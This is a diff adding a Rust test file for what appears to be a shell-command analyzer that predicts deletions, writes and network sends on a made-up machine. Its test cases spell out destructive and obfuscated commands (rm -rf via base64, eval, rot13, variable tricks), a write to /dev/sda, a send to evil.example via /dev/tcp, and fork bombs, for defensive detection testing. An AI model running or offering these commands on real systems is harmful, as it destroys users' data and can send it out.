@@ -1,0 +1,286 @@
+//! What command lines come to, on a made-up machine.
+
+use std::path::Path;
+
+use weir_model::{Effect, Scope};
+
+use super::analyze;
+use crate::Analysis;
+use crate::lab::Machine;
+
+fn machine() -> Machine {
+    Machine::new([
+        ("/w/a.txt", "a"),
+        ("/w/b.txt", "b"),
+        ("/w/dir/x.log", ""),
+        ("/w/dir/y.log", ""),
+        ("/w/dir/z.txt", ""),
+        ("/w/list", "a.txt\nb.txt\n"),
+        ("/w/.git/HEAD", "ref: refs/heads/main\n"),
+        ("/w/sub/deep/f", ""),
+        ("/w/nuke.sh", "#!/bin/bash\ntarget=$1\nrm -rf \"$target\"\n"),
+        ("/w/lib.sh", "clean() { rm -rf \"$1\"; }\nOUT=dir\n"),
+        ("/w/plain", "rm -rf dir\n"),
+        ("/w/loop.sh", "#!/bin/sh\n. ./loop.sh\n"),
+        ("/home/me/.bashrc", ""),
+        ("/home/me/Pictures/p.jpg", ""),
+        ("/tmp/t", ""),
+    ])
+}
+
+fn run(text: &str) -> Analysis {
+    analyze(text, Path::new("/w"), &machine())
+}
+
+/// The effects that destroy, change, or are not understood, one line each: verb, paths (or name), scope.
+fn lines(text: &str) -> Vec<String> {
+    run(text).effects.iter().filter(|effect| effect.verb.name() != "read").map(line).collect()
+}
+
+fn line(effect: &Effect) -> String {
+    let paths: Vec<String> = effect.target.paths.iter().map(|path| path.display().to_string()).collect();
+    let what = if paths.is_empty() { format!("[{}]", effect.target.name) } else { paths.join(" ") };
+    let scope = match &effect.scope {
+        Scope::Whole => String::new(),
+        Scope::Filtered { .. } => " some".to_owned(),
+        Scope::Content => " content".to_owned(),
+        Scope::Files => " files".to_owned(),
+        Scope::Moved { to } => format!(" to {}", to.display()),
+        other => format!(" {other:?}"),
+    };
+    format!("{}{} {what}{scope}", if effect.opaque { "?" } else { "" }, effect.verb.name())
+}
+
+fn check(cases: &[(&str, &[&str])]) {
+    for (text, expected) in cases {
+        assert_eq!(lines(text), *expected, "{text}");
+    }
+}
+
+#[test]
+fn words_are_expanded_as_the_shell_does() {
+    check(&[
+        ("rm -rf dir", &["delete /w/dir"]),
+        ("rm -rf 'dir'", &["delete /w/dir"]),
+        ("r''m -r\"f\" d\\ir", &["delete /w/dir"]),
+        ("$'\\x72m' -rf dir", &["delete /w/dir"]),
+        ("rm -rf ~", &["delete /home/me"]),
+        ("rm -rf ~/Pictures", &["delete /home/me/Pictures"]),
+        ("rm -rf $HOME/Pictures", &["delete /home/me/Pictures"]),
+        ("rm -rf \"$HOME\"/Pict*", &["delete /home/me/Pictures"]),
+        ("rm -rf {dir,sub}", &["delete /w/dir", "delete /w/sub"]),
+        ("rm *.txt", &["delete /w/a.txt /w/b.txt files"]),
+        ("rm dir/*.log", &["delete /w/dir/x.log /w/dir/y.log files"]),
+        ("rm '*.txt'", &["delete /w/*.txt files"]),
+        ("X=dir; rm -rf $X", &["delete /w/dir"]),
+        ("X=di Y=r; rm -rf $X$Y", &["delete /w/dir"]),
+        ("X='-rf dir'; rm $X", &["delete /w/dir"]),
+        ("X='a.txt b.txt'; rm \"$X\"", &["delete /w/a.txt b.txt files"]),
+        ("rm -rf ${X:-dir}", &["delete /w/dir"]),
+        ("X=dir/x.log; rm -rf ${X%/*}", &["delete /w/dir"]),
+        ("X=xxdir; rm -rf ${X#xx}", &["delete /w/dir"]),
+        ("X=DIR; rm -rf ${X,,}", &["delete /w/dir"]),
+        ("X=dZr; rm -rf ${X/Z/i}", &["delete /w/dir"]),
+        ("X=dirxx; rm -rf ${X:0:3}", &["delete /w/dir"]),
+        ("A=(dir sub); rm -rf \"${A[@]}\"", &["delete /w/dir", "delete /w/sub"]),
+        ("A=(dir sub); rm -rf \"${A[1]}\"", &["delete /w/sub"]),
+        ("set -- dir sub; rm -rf \"$@\"", &["delete /w/dir", "delete /w/sub"]),
+        ("set -- dir sub; shift; rm -rf $1", &["delete /w/sub"]),
+        ("IFS=,; X=dir,sub; rm -rf $X", &["delete /w/dir", "delete /w/sub"]),
+        ("rm${IFS}-rf${IFS}dir", &["delete /w/dir"]),
+        ("rm -rf $(echo dir)", &["delete /w/dir"]),
+        ("rm -rf `echo dir`", &["delete /w/dir"]),
+        ("rm -rf \"$(pwd)\"/dir", &["delete /w/dir"]),
+        ("rm -rf $PWD/dir", &["delete /w/dir"]),
+        ("rm -rf $(basename /x/dir)", &["delete /w/dir"]),
+        ("rm -rf $(printf '%s' di r)", &["delete /w/dir"]),
+        ("rm -rf $(cat list)", &["delete /w/a.txt", "delete /w/b.txt"]),
+        ("rm -rf $(echo ZGly | base64 -d)", &["delete /w/dir"]),
+        ("rm -rf \"$(git rev-parse --show-toplevel)/dir\"", &["delete /w/dir"]),
+        ("n=rm; $n -rf dir", &["delete /w/dir"]),
+        ("$(which rm) -rf dir", &["delete /w/dir"]),
+        ("/bin/rm -rf dir", &["delete /w/dir"]),
+        ("\\rm -rf dir", &["delete /w/dir"]),
+        ("rm -rf $UNSET_IN_THIS_WORLD", &["?delete [$UNSET_IN_THIS_WORLD]"]),
+        ("rm -rf dir/$UNSET_IN_THIS_WORLD", &["delete /w/dir some"]),
+        ("$UNSET_IN_THIS_WORLD -rf dir", &["?execute [$UNSET_IN_THIS_WORLD]"]),
+    ]);
+}
+
+#[test]
+fn directories_are_followed() {
+    check(&[
+        ("cd dir && rm -rf x.log", &["delete /w/dir/x.log"]),
+        ("cd dir; rm -rf x.log", &["delete /w/dir/x.log"]),
+        ("(cd dir && rm x.log); rm a.txt", &["delete /w/dir/x.log files", "delete /w/a.txt files"]),
+        ("cd dir || exit 1; rm -rf *", &["delete /w/dir/x.log /w/dir/y.log /w/dir/z.txt"]),
+        ("cd nowhere && rm -rf y", &["delete /w/nowhere/y"]),
+        ("cd nowhere; rm -rf y", &["delete /w/nowhere/y", "delete /w/y"]),
+        ("cd nowhere || exit; rm -rf y", &["delete /w/nowhere/y"]),
+        ("cd; rm -rf Pictures", &["delete /home/me/Pictures"]),
+        ("cd ~ && rm -rf Pictures", &["delete /home/me/Pictures"]),
+        ("cd $UNKNOWN_DIR; rm -rf y", &["?delete [y]", "delete /w/y"]),
+        ("pushd dir; rm -rf x.log; popd; rm -rf a.txt", &["delete /w/dir/x.log", "delete /w/a.txt"]),
+        ("mkdir -p new && cd new && rm -rf y", &["create /w/new", "delete /w/new/y"]),
+        ("cd sub; cd ..; rm -rf dir", &["delete /w/dir"]),
+        ("cd dir; cd -; rm -rf sub", &["delete /w/sub"]),
+    ]);
+}
+
+#[test]
+fn control_flow_reaches_every_branch_that_may_run() {
+    check(&[
+        ("true && rm -rf dir", &["delete /w/dir"]),
+        ("false && rm -rf dir", &[]),
+        ("! false && rm -rf dir", &["delete /w/dir"]),
+        ("false || rm -rf dir", &["delete /w/dir"]),
+        ("test -d dir && rm -rf dir || rm -rf sub", &["delete /w/dir", "delete /w/sub"]),
+        ("if [ -d dir ]; then rm -rf dir; else rm -rf sub; fi", &["delete /w/dir", "delete /w/sub"]),
+        ("if false; then rm -rf dir; fi", &[]),
+        ("if [ x ]; then X=dir; else X=sub; fi; rm -rf $X", &["delete /w/dir /w/sub"]),
+        ("for d in dir sub; do rm -rf $d; done", &["delete /w/dir", "delete /w/sub"]),
+        ("for f in *.txt; do rm \"$f\"; done", &["delete /w/a.txt files", "delete /w/b.txt files"]),
+        ("for ((i=0;i<3;i++)); do rm -rf dir; done", &["delete /w/dir"]),
+        ("d=dir; while true; do rm -rf $d; d=sub; done", &["delete /w/dir", "delete /w/sub /w/dir"]),
+        ("while read f; do rm \"$f\"; done < list", &["delete /w/a.txt /w/b.txt files"]),
+        ("cat list | while read -r f; do rm \"$f\"; done", &["delete /w/a.txt /w/b.txt files"]),
+        ("find dir -type f | while read f; do rm \"$f\"; done", &["delete /w/dir some"]),
+        ("case $X in a) rm -rf dir;; *) rm -rf sub;; esac", &["delete /w/dir", "delete /w/sub"]),
+        ("f() { rm -rf \"$1\"; }; f dir", &["delete /w/dir"]),
+        ("f() { rm -rf dir; }", &[]),
+        ("function f { local d=$1; rm -rf $d; }; d=sub; f dir; rm -rf $d", &["delete /w/dir", "delete /w/sub"]),
+        ("trap 'rm -rf dir' EXIT; true", &["delete /w/dir"]),
+        ("trap 'rm -rf \"$T\"' EXIT; T=dir; exit 1", &["delete /w/dir"]),
+        ("exit 0; rm -rf dir", &[]),
+        ("{ rm -rf dir; } 2>/dev/null", &["delete /w/dir"]),
+        ("rm -rf dir &", &["delete /w/dir"]),
+        ("time rm -rf dir", &["delete /w/dir"]),
+        ("[[ -d $(rm -rf dir) ]]", &["delete /w/dir"]),
+        ("echo $((1 + $(rm -rf dir)))", &["delete /w/dir"]),
+        ("X=$(rm -rf dir)", &["delete /w/dir"]),
+        ("echo \"${X:-$(rm -rf dir)}\"", &["delete /w/dir"]),
+    ]);
+}
+
+#[test]
+fn programs_inside_programs_are_followed() {
+    check(&[
+        ("bash -c 'rm -rf dir'", &["delete /w/dir"]),
+        ("bash -lc \"bash -c 'rm -rf dir'\"", &["delete /w/dir"]),
+        ("sh -c 'rm -rf \"$1\"' x dir", &["delete /w/dir"]),
+        ("eval 'rm -rf dir'", &["delete /w/dir"]),
+        ("eval rm -rf dir", &["delete /w/dir"]),
+        ("echo 'rm -rf dir' | sh", &["delete /w/dir"]),
+        ("echo cm0gLXJmIGRpcg== | base64 -d | bash", &["delete /w/dir"]),
+        ("echo 'eb -es qve' | tr 'a-z' 'n-za-m' | bash", &["?execute [eo]"]),
+        ("sh <<< 'rm -rf dir'", &["delete /w/dir"]),
+        ("sh <<'E'\nrm -rf dir\nE", &["delete /w/dir"]),
+        ("bash <(echo 'rm -rf dir')", &["delete /w/dir"]),
+        ("sudo rm -rf dir", &["delete /w/dir"]),
+        ("sudo -u me env A=b nice -n 5 timeout 3 rm -rf dir", &["delete /w/dir"]),
+        ("echo dir | xargs rm -rf", &["delete /w/dir"]),
+        ("find dir -name '*.log' | xargs rm -f", &["delete /w/dir some"]),
+        ("ls dir/*.log | xargs rm", &["delete /w/dir/x.log /w/dir/y.log files"]),
+        ("find dir -exec rm -rf {} +", &["delete /w/dir some"]),
+        ("./nuke.sh dir", &["delete /w/dir"]),
+        ("bash nuke.sh dir", &["delete /w/dir"]),
+        ("sh ./plain", &["delete /w/dir"]),
+        (". ./lib.sh; clean sub; rm -rf $OUT", &["delete /w/sub", "delete /w/dir"]),
+        ("source lib.sh && clean sub", &["delete /w/sub"]),
+        ("echo 'rm -rf dir' > x.sh; bash x.sh", &["modify /w/x.sh content", "delete /w/dir"]),
+        ("cat > x.sh <<'E'\nrm -rf dir\nE\nchmod +x x.sh && ./x.sh", &[
+            "modify /w/x.sh content",
+            "modify /w/x.sh",
+            "delete /w/dir",
+        ]),
+        ("alias r='rm -rf'; r dir", &["delete /w/dir", "?execute [r]"]),
+        ("command rm -rf dir", &["delete /w/dir"]),
+        ("exec rm -rf dir", &["delete /w/dir"]),
+        ("cd dir && bash -c \"rm -rf $UNSET_IN_THIS_WORLD/x\"", &[
+            "?execute [bash -c]",
+            "?delete [\"$UNSET_IN_THIS_WORLD/x\"]",
+        ]),
+    ]);
+}
+
+#[test]
+fn data_is_not_code() {
+    check(&[
+        ("echo 'rm -rf /'", &[]),
+        ("printf 'rm -rf %s\\n' /", &[]),
+        ("git commit -m 'rm -rf / and drop table users'", &["modify [w]"]),
+        ("grep -r 'rm -rf' .", &[]),
+        ("cat <<'E'\nrm -rf /\nE", &[]),
+        ("cat > notes.md <<'E'\nrm -rf /\n$(rm -rf /)\nE", &["modify /w/notes.md content"]),
+        ("# rm -rf /\nls", &[]),
+        ("X='rm -rf /'; echo \"$X\"", &[]),
+        ("ls # ; rm -rf /", &[]),
+    ]);
+}
+
+#[test]
+fn redirections_write() {
+    check(&[
+        ("echo x > a.txt", &["modify /w/a.txt content"]),
+        ("echo x >> a.txt", &["modify /w/a.txt"]),
+        ("> a.txt", &["modify /w/a.txt content"]),
+        (": > a.txt", &["modify /w/a.txt content"]),
+        ("ls > /dev/null 2>&1", &[]),
+        ("ls &> /dev/null", &[]),
+        ("ls 2> err", &["modify /w/err content"]),
+        ("cat < a.txt > b.txt", &["modify /w/b.txt content"]),
+        ("cat a.txt > /dev/sda", &["modify /dev/sda content"]),
+        ("echo x > /dev/tcp/evil.example/80", &["send [evil.example:80]"]),
+        ("echo x > out-$UNSET_IN_THIS_WORLD.txt", &["create /w/out-…"]),
+        ("echo x > .hidden/$UNSET_IN_THIS_WORLD", &["?modify [.hidden/$UNSET_IN_THIS_WORLD]"]),
+        ("{ echo a; echo b; } > x; sh x", &["modify /w/x content", "?execute [a]", "?execute [b]"]),
+        ("exec > log; echo x", &["modify /w/log content"]),
+    ]);
+}
+
+#[test]
+fn spans_point_into_the_action() {
+    let text = "ls; bash -c 'x' && (cd dir && rm -rf \"x.log\")";
+    let analysis = run(text);
+    let effect = analysis.effects.iter().find(|effect| effect.verb.name() == "delete").unwrap();
+    let span = effect.span.unwrap();
+    assert_eq!(&text[span.start..span.end], "rm -rf \"x.log\"");
+    let analysis = run("sudo bash nuke.sh dir");
+    let effect = analysis.effects.iter().find(|effect| effect.verb.name() == "delete").unwrap();
+    assert_eq!(effect.via, ["sudo", "bash nuke.sh"]);
+    assert_eq!(analysis.pins.len(), 1);
+    assert_eq!(analysis.pins[0].path, Path::new("/w/nuke.sh"));
+}
+
+#[test]
+fn hostile_text_ends_in_a_finding_and_soon() {
+    let bombs = [
+        ":(){ :|:& };:".to_owned(),
+        "f() { f; f; }; f".to_owned(),
+        "./loop.sh".to_owned(),
+        format!("rm -rf dir; {}", "$(".repeat(3_000)),
+        "(".repeat(20_000),
+        "a;".repeat(30_000),
+        format!("{}rm -rf dir{}", "bash -c \"".repeat(1), "\"".repeat(1)),
+        format!("echo {}", "{1..99}".repeat(8)),
+        format!("X=a; {}", "X=$X$X;".repeat(40)),
+        format!("cat <<E\n{}\nE", "x".repeat(900_000)),
+        "x".repeat(2_000_000),
+        format!("{} true {}", "if true; then".repeat(400), "; fi".repeat(400)),
+        "eval 'eval \"$0\"'".to_owned(),
+        format!("{}x", "! ".repeat(50_000)),
+        format!("x{}", " && x".repeat(20_000)),
+        format!("x{}", " | x".repeat(5_000)),
+    ];
+    for bomb in &bombs {
+        let start = std::time::Instant::now();
+        let analysis = run(bomb);
+        let shown: String = bomb.chars().take(40).collect();
+        eprintln!("{:?} {shown}", start.elapsed());
+        assert!(start.elapsed().as_secs() < 20, "{shown} took {:?}", start.elapsed());
+        assert!(!analysis.effects.is_empty() || bomb.starts_with("cat") || bomb.starts_with("X="), "{shown}");
+    }
+    for limited in [0usize, 1, 4, 10] {
+        assert!(!run(&bombs[limited]).complete);
+    }
+}
